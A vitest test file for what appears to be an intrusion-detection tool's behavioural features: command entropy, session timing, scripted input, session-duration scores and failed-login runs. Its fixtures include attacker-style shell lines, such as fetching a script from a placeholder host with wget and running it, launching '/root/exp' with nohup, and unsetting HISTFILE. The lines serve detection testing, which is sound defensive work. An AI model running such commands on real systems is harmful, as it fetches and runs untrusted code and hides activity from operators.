import { describe, expect, it } from 'vitest';
import { ConfigError } from '../../src/errors/vigil-error.js';
import {
  commandTokens,
  createCommandEntropyGroup,
  createFailedAuthGroup,
  createInputPatternGroup,
  createSessionDurationGroup,
  createTimingRegularityGroup,
  TIMING_REGULARITY_MISSING,
} from '../../src/features/behavioral/index.js';
import { auth, command, flow, runOne, session } from './behavioral-fixtures.js';

const S = 1000;
const H = 3_600_000;

describe('commandTokens', () => {
  it.each([
    ['ls', ['ls']],
    ['cd /tmp; wget http://x/a.sh && chmod +x a.sh | sh', ['cd', 'wget', 'chmod', 'sh']],
    ['/tmp/./xcsyn\n', ['xcsyn']],
    ['nohup /root/exp > /dev/null 2>&1 &', ['nohup']],
    ['cat /proc/cpuinfo || "uname" -a', ['cat', 'uname']],
    ['unset HISTFILE ; history -n ;', ['unset', 'history']],
    ['   ', []],
  ])('%j -> %j', (input, tokens) => {
    expect(commandTokens(input)).toEqual(tokens);
  });
});

describe('feature 90: command-sequence entropy', () => {
  it('is the entropy in bits of the source\'s recent command tokens', () => {
    const values = runOne(createCommandEntropyGroup(), [
      auth(0, 'success'), // no command yet: 0
      command(1 * S, 'cd /tmp; wget http://x/a.sh; chmod +x a.sh; ./a.sh'), // cd wget chmod a.sh: 4 equal shares -> log2 4 = 2
      command(2 * S, 'uname -a'), // 5 distinct tokens -> log2 5 = 2.321928
      command(2 * S + 4, 'uname -a', 'failed'), // the shell's answer adds no token
      command(3 * S, 'uname'), // uname 2/6, four others 1/6: 4·(1/6)·log2 6 + (2/6)·log2 3 = 2.251629
      flow(4 * S), // flows leave it
    ]);
    expect(values[0]).toBe(0);
    expect(values[1]).toBeCloseTo(2, 12);
    expect(values[2]).toBeCloseTo(2.321928094887362, 12);
    expect(values[3]).toBe(values[2]);
    expect(values[4]).toBeCloseTo(2.2516291673878226, 12);
    expect(values[5]).toBe(values[4]);
  });

  it('forgets tokens beyond its window', () => {
    // window 2: [a] -> 0; [a, b] -> 1 bit; [b, b] -> 0.
    expect(runOne(createCommandEntropyGroup({ window: 2 }), [command(0, 'a'), command(S, 'b'), command(2 * S, 'b')])).toEqual([0, 1, 0]);
    expect(() => createCommandEntropyGroup({ window: 1 })).toThrow(ConfigError);
  });
});

describe('feature 91: timing regularity', () => {
  it('is the CV of the gaps between session starts', () => {
    const values = runOne(createTimingRegularityGroup(), [
      session(0, 'connect', { sessionId: 's1' }), // first start, no gap: 1 (missing)
      auth(1 * S, 'failure', { sessionId: 's1' }), // same session: not a start
      session(10 * S, 'connect', { sessionId: 's2' }), // gaps [10]: one gap is too few: 1
      session(20 * S, 'connect', { sessionId: 's3' }), // gaps [10, 10]: CV 0
      session(40 * S, 'connect', { sessionId: 's4' }), // [10, 10, 20]: mean 13.33, std 4.714 -> 0.353553
      auth(41 * S, 'failure', { sessionId: 's2' }), // an earlier session, interleaved: not a start
      flow(50 * S), // a flow is a connection: [10, 10, 20, 10]: mean 12.5, std 4.3301 -> 0.346410
      auth(51 * S, 'failure', { sessionId: null }), // no session id: not a start
    ]);
    expect(values.slice(0, 3)).toEqual([TIMING_REGULARITY_MISSING, 1, 1]);
    expect(values[3]).toBe(0);
    expect(values[4]).toBeCloseTo(Math.SQRT2 / 4, 12);
    expect(values[5]).toBe(values[4]);
    expect(values[6]).toBeCloseTo(0.3464101615137755, 12);
    expect(values[7]).toBe(values[6]);
  });

  it('keeps the last `window` gaps and counts a late start as a gap of 0', () => {
    // window 2: gaps [10, 30] -> mean 20, std 10 -> 0.5; then the late start adds 0: [30, 0] -> 1.
    const starts = [0, 10, 40].map((t, i) => session(t * S, 'connect', { sessionId: `s${i}` }));
    const values = runOne(createTimingRegularityGroup({ window: 2 }), [...starts, session(5 * S, 'connect', { sessionId: 'late' })]);
    expect(values.slice(2)).toEqual([0.5, 1]);
    expect(() => createTimingRegularityGroup({ window: 1 })).toThrow(ConfigError);
  });
});

describe('feature 92: input pattern', () => {
  it('balances scripted (+1) against typed (−1) command lines', () => {
    const values = runOne(createInputPatternGroup(), [
      auth(0, 'success'), // no input yet: 0
      command(5 * S, 'ls'), // 5 s after the login, (2+1)/10 = 0.3 s needed: typed -> [−1] -> −1
      command(5 * S + 4, 'ls', 'failed'), // the shell's answer: not judged, but the next line is timed from it
      command(5 * S + 8, 'cat /proc/cpuinfo'), // 4 ms, 1.8 s needed: scripted -> [−1, 1] -> 0
      command(5.5 * S, 'uname -a'), // 0.492 s, 0.9 s needed: scripted -> [−1, 1, 1] -> 1/3
      flow(10 * S), // flows neither judge nor move the clock
      command(10.1 * S, 'w'), // 4.6 s after uname, 0.2 s needed: typed -> [−1, 1, 1, −1] -> 0
    ]);
    expect(values).toEqual([0, -1, -1, 0, 1 / 3, 1 / 3, 0]);
  });

  it('cannot judge a source\'s first event, and keeps only `window` verdicts', () => {
    // window 1: the first line has no earlier event (0); then typed (−1); then scripted (1).
    const values = runOne(createInputPatternGroup({ window: 1 }), [command(0, 'id'), command(9 * S, 'id'), command(9 * S + 1, 'id')]);
    expect(values).toEqual([0, -1, 1]);
    expect(() => createInputPatternGroup({ typingCharsPerSecond: 0 })).toThrow(ConfigError);
  });
});

describe('feature 93: session-duration z-score', () => {
  const closed = (t: number, lnSeconds: number) => session(t, 'closed', { durationMs: Math.expm1(lnSeconds) * S });

  it('scores against the global baseline first, then against the pooled source history', () => {
    const group = createSessionDurationGroup({ baseline: { mean: 1, std: 0.5 } });
    const values = runOne(group, [
      auth(0, 'failure'), // no session closed yet: 0
      closed(10 * S, 2), // prior alone (5 sessions, mean 1, std 0.5): z = (2 − 1)/0.5 = 2
      auth(11 * S, 'success'), // held
      session(12 * S, 'closed', { durationMs: null }), // no duration: held
      // 24 h later the first session weighs 0.5: W = 5.5, Σx = 5 + 1 = 6, Σx² = 5·1.25 + 0.5·4 = 8.25;
      // μ = 1.090909, σ² = 1.5 − 1.190083 = 0.309917, σ = 0.556702 -> z = 0.909091/0.556702 = 1.632993
      closed(10 * S + 24 * H, 2),
      flow(10 * S + 25 * H), // held
    ]);
    expect(values.slice(0, 4)).toEqual([0, 2, 2, 2]);
    expect(values[4]).toBeCloseTo(1.6329931618554516, 9);
    expect(values[5]).toBe(values[4]);
  });

  it('floors the std and clips z', () => {
    const group = createSessionDurationGroup({ baseline: { mean: 1, std: 0.01 } });
    // σ = max(0.01, minStd 0.1): (1.5 − 1)/0.1 = 5; (4 − 1)/0.1 = 30, clipped to 10.
    expect(runOne(group, [closed(0, 1.5)])).toEqual([expect.closeTo(5, 9)]);
    expect(runOne(group, [closed(0, 4)])).toEqual([10]);
    expect(() => createSessionDurationGroup({ baseline: { mean: 1, std: 0 } })).toThrow(ConfigError);
  });
});

describe('feature 94: failed-auth pattern', () => {
  it('grows with a run of failures and scores a success after them above 1', () => {
    const values = runOne(createFailedAuthGroup(), [
      session(0, 'connect'), // no auth yet: 0
      auth(1 * S, 'failure'), // r = 1: 1/6
      auth(10 * S, 'failure'), // r = 2: 2/7
      auth(20 * S, 'failure', { attempts: 3 }), // "message repeated 3 times": r = 5: 5/10
      command(30 * S, 'ls'), // held
      auth(40 * S, 'success'), // success after 5: 1 + 5/10
      auth(50 * S, 'failure'), // a new run: 1/6
      auth(60 * S, 'success'), // 1 + 1/6
      auth(70 * S, 'success'), // success with no run before it: 0
      auth(80 * S, 'failure'), // 1/6
      auth(80 * S + 2 * H, 'failure'), // 2 h later the run restarted: 1/6 again, not 2/7
      auth(80 * S + 4 * H, 'success'), // and a success after a 2 h pause ends no run: 0
      flow(80 * S + 5 * H), // held
    ]);
    expect(values).toEqual([0, 1 / 6, 2 / 7, 0.5, 0.5, 1.5, 1 / 6, 1 + 1 / 6, 0, 1 / 6, 1 / 6, 0, 0]);
    expect(() => createFailedAuthGroup({ halfSaturation: -1 })).toThrow(ConfigError);
  });
});
